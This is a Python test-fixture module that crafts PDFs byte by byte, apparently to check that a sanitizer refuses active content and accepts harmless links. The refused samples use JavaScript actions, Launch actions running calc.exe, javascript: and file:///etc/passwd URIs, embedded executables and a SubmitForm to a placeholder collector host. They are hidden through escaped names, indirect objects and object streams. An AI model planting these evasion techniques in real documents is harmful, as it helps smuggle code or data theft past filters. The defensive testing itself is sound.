"""PDFs written byte by byte, so that a test can put active content exactly where an
attacker would: behind indirect objects, in escaped names, in arrays, annotations,
outlines, form fields and compressed object streams.

A document is a one-page skeleton (catalog 1, pages 2, page 3, contents 4) with extra text
in the catalog and the page, and extra numbered objects. ``packed=True`` puts every object
that is not a stream into an object stream, indexed by a cross-reference stream (PDF 1.5),
where a plain text search for names finds nothing.
"""

import struct
import zlib
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Crafted:
    catalog: str = ""  # more entries of the catalog dictionary
    page: str = ""  # more entries of the page dictionary
    objects: dict[int, str] = field(default_factory=dict)  # number → object text, from 5
    packed: bool = False

    def build(self) -> bytes:
        objects = {
            1: f"<< /Type /Catalog /Pages 2 0 R {self.catalog} >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
            f"{self.page} >>",
            4: _stream("", b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET"),
            **self.objects,
        }
        return _packed(objects) if self.packed else _plain(objects)


def _stream(entries: str, data: bytes) -> str:
    return f"<< {entries} /Length {len(data)} >>\nstream\n{data.decode('latin-1')}\nendstream"


def _is_stream(text: str) -> bool:
    return "\nstream\n" in text


def _plain(objects: dict[int, str]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n{objects[number]}\nendobj\n".encode("latin-1")
    size = max(objects) + 1
    xref = len(out)
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        if number in offsets:
            out += f"{offsets[number]:010d} 00000 n \n".encode()
        else:
            out += b"0000000000 65535 f \n"
    out += f"trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _packed(objects: dict[int, str]) -> bytes:
    """Objects in an object stream (number ``box``), found through an xref stream."""
    inside = [number for number in sorted(objects) if not _is_stream(objects[number])]
    box = max(objects) + 1
    xref_number = box + 1
    header, body = [], bytearray()
    for number in inside:
        header.append(f"{number} {len(body)}")
        body += objects[number].encode("latin-1") + b"\n"
    first = " ".join(header).encode() + b"\n"
    loose = {n: t for n, t in objects.items() if n not in inside}
    loose[box] = _stream(
        f"/Type /ObjStm /N {len(inside)} /First {len(first)} /Filter /FlateDecode",
        zlib.compress(first + bytes(body)),
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(loose):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n{loose[number]}\nendobj\n".encode("latin-1")
    offsets[xref_number] = len(out)
    rows = bytearray(struct.pack(">BIH", 0, 0, 65535))
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in inside:
            rows += struct.pack(">BIH", 2, box, inside.index(number))
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    entries = f"/Type /XRef /Size {xref_number + 1} /W [1 4 2] /Root 1 0 R"
    out += f"{xref_number} 0 obj\n".encode()
    out += f"<< {entries} /Length {len(rows)} >>\nstream\n".encode() + rows
    out += f"\nendstream\nendobj\nstartxref\n{offsets[xref_number]}\n%%EOF\n".encode()
    return bytes(out)


# Pieces the corpus combines.
LINK = "<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /Border [0 0 0] /A {action} >>"
WIDGET = (
    "<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [10 10 90 30] /P 3 0 R {more} >>"
)
OUTLINES = "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>"
OUTLINE_ITEM = "<< /Title (Introduction) /Parent 5 0 R /A {action} >>"


def link(action: str, **objects: str) -> Crafted:
    """A page with one link annotation (object 5) running ``action``."""
    return Crafted(
        page="/Annots [5 0 R]",
        objects={5: LINK.format(action=action), **_numbered(objects)},
    )


def outline(action: str, **objects: str) -> Crafted:
    """A bookmark (outline item 6 under outlines 5) running ``action``."""
    return Crafted(
        catalog="/Outlines 5 0 R /PageMode /UseOutlines",
        objects={5: OUTLINES, 6: OUTLINE_ITEM.format(action=action), **_numbered(objects)},
    )


def form_field(more: str, **objects: str) -> Crafted:
    """An AcroForm button (object 5, also the page's widget) with ``more`` entries."""
    return Crafted(
        catalog="/AcroForm << /Fields [5 0 R] >>",
        page="/Annots [5 0 R]",
        objects={5: WIDGET.format(more=more), **_numbered(objects)},
    )


def _numbered(objects: dict[str, str]) -> dict[int, str]:
    """``o7="/Launch"`` → {7: "/Launch"}: keyword arguments name objects by number."""
    return {int(name.removeprefix("o")): text for name, text in objects.items()}


def packed(crafted: Crafted) -> Crafted:
    return Crafted(crafted.catalog, crafted.page, crafted.objects, packed=True)


CALC = "/F (calc.exe)"
JS_ALERT = "/JS (app.alert\\(1\\))"

# (id, document, words the refusal must contain)
REFUSED = [
    ("openaction-javascript", Crafted(f"/OpenAction << /S /JavaScript {JS_ALERT} >>"),
     "JavaScript"),
    ("openaction-launch-through-indirect-s",
     Crafted(f"/OpenAction << /S 6 0 R {CALC} >>", objects={6: "/Launch"}), "launches"),
    ("openaction-gotor-through-indirect-s",
     Crafted("/OpenAction << /S 6 0 R /F (other.pdf) /D [0 /Fit] >>", objects={6: "/GoToR"}),
     "another file"),
    ("openaction-indirect-dictionary-and-chained-name",
     Crafted("/OpenAction 6 0 R", objects={6: f"<< /S 7 0 R {CALC} >>", 7: "/Launch"}),
     "launches"),
    ("annotation-fileattachment-through-indirect-subtype",
     Crafted(page="/Annots [5 0 R]", objects={
         5: "<< /Type /Annot /Subtype 7 0 R /Rect [0 0 10 10] /FS 8 0 R >>",
         7: "/FileAttachment", 8: "<< /Type /Filespec /F (note.txt) >>"}),
     "attached file"),
    ("filespec-with-ef-and-untyped-stream",
     Crafted("/Extra 5 0 R", objects={
         5: "<< /Type /Filespec /F (payload.exe) /EF << /F 6 0 R >> >>",
         6: _stream("", b"MZ payload")}),
     "attached file"),
    ("escaped-name-java-53-cript", Crafted("/OpenAction << /S /Java#53cript /#4AS (x) >>"),
     "JavaScript"),
    ("escaped-name-behind-indirect",
     Crafted(f"/OpenAction << /S 6 0 R {CALC} >>", objects={6: "/L#61unch"}), "launches"),
    ("link-uri-javascript", link("<< /S /URI /URI (javascript:alert\\(1\\)) >>"), "link"),
    ("link-uri-javascript-mixed-case-and-spaces",
     link("<< /S /URI /URI (  JaVaScRiPt:alert\\(1\\)) >>"), "link"),
    ("link-uri-javascript-octal-escape", link("<< /S /URI /URI (\\152ava\\163cript:x) >>"),
     "link"),
    ("link-uri-javascript-hex-string",
     link("<< /S /URI /URI <6A6176617363726970743A616C6572742831293B> >>"), "link"),
    ("link-uri-javascript-tab-and-newline-inside",
     link("<< /S /URI /URI (java\\tscr\\nipt:alert\\(1\\)) >>"), "link"),
    ("link-uri-javascript-through-indirect-string",
     link("<< /S /URI /URI 9 0 R >>", o9="(javascript:alert\\(1\\))"), "link"),
    ("link-uri-file-scheme", link("<< /S /URI /URI (file:///etc/passwd) >>"), "link"),
    ("link-uri-without-scheme", link("<< /S /URI /URI (evil.exe) >>"), "link"),
    ("link-action-behind-indirect-dictionary",
     link("6 0 R", o6=f"<< /S 7 0 R {CALC} >>", o7="/Launch"), "launches"),
    ("action-chain-next-in-array",
     Crafted("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>",
             objects={5: f"<< /S 6 0 R {CALC} >>", 6: "/Launch"}), "launches"),
    ("action-nested-deep-in-arrays",
     Crafted(page=f"/Extra [[[ << /S /JavaScript {JS_ALERT} >> ]]]"), "JavaScript"),
    ("outline-launch-through-indirect-s",
     outline(f"<< /S 7 0 R {CALC} >>", o7="/Launch"), "launches"),
    ("outline-uri-javascript", outline("<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
     "link"),
    ("acroform-field-aa-javascript",
     form_field("/AA << /U << /S /JavaScript /JS 6 0 R >> >>", o6="(app.alert\\(1\\))"),
     "JavaScript"),
    ("acroform-submitform-through-indirect-s",
     form_field("/A << /S 6 0 R /F << /FS /URL /F (http://collector.example) >> >>",
                o6="/SubmitForm"), "sends data"),
    ("acroform-resetform-not-on-the-list", form_field("/A << /S /ResetForm >>"),
     "action"),
    ("page-aa-named-print", Crafted(page="/AA << /O << /S /Named /N /Print >> >>"), "action"),
    ("catalog-aa-unknown-action-type", Crafted("/AA << /WC << /S /Whatever >> >>"), "action"),
    ("richmedia-through-indirect-subtype",
     Crafted(page="/Annots [5 0 R]", objects={
         5: "<< /Type /Annot /Subtype 6 0 R /Rect [0 0 10 10] >>", 6: "/RichMedia"}),
     "media"),
    ("names-tree-embedded-files",
     Crafted("/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
             objects={5: "<< /Type /Filespec /F (a.exe) >>"}), "attached file"),
    ("object-stream-launch-through-indirect-s",
     packed(Crafted("/OpenAction 5 0 R", objects={5: f"<< /S 6 0 R {CALC} >>",
                                                  6: "/Launch"})), "launches"),
    ("object-stream-uri-javascript",
     packed(link("<< /S /URI /URI (javascript:alert\\(1\\)) >>")), "link"),
    ("object-stream-fileattachment-through-indirect-subtype",
     packed(Crafted(page="/Annots [5 0 R]", objects={
         5: "<< /Type /Annot /Subtype 7 0 R /Rect [0 0 10 10] >>", 7: "/FileAttachment"})),
     "attached file"),
    ("object-stream-field-javascript",
     packed(form_field(f"/AA << /K << /S /JavaScript {JS_ALERT} >> >>")), "JavaScript"),
]  # fmt: skip

# Harmless documents, also crafted, that must still be accepted: links inside the document
# and to the web, an /S that is not an action (a border style, a transparency group).
ACCEPTED = [
    ("blank", Crafted()),
    ("link-https", link("<< /S /URI /URI (https://example.org/report) >>")),
    ("link-http-through-indirect-string", link("<< /Type /Action /S /URI /URI 9 0 R >>",
                                               o9="(http://example.org/)")),
    ("link-mailto", link("<< /S /URI /URI (mailto:contact@example.org) >>")),
    ("link-goto-page", link("<< /S /GoTo /D [3 0 R /Fit] >>")),
    ("outline-goto", outline("<< /S /GoTo /D [3 0 R /XYZ 0 200 0] >>")),
    ("openaction-destination-array", Crafted("/OpenAction [3 0 R /Fit]")),
    ("border-style-and-transparency-group",
     Crafted(page="/Group << /S /Transparency /CS /DeviceRGB >> /Annots [5 0 R]",
             objects={5: "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                         "/BS << /S /D /W 1 >> /A << /S /GoTo /D [3 0 R /Fit] >> >>"})),
    ("object-stream-link-https",
     packed(link("<< /S 6 0 R /URI (https://example.org/) >>", o6="/URI"))),
]  # fmt: skip
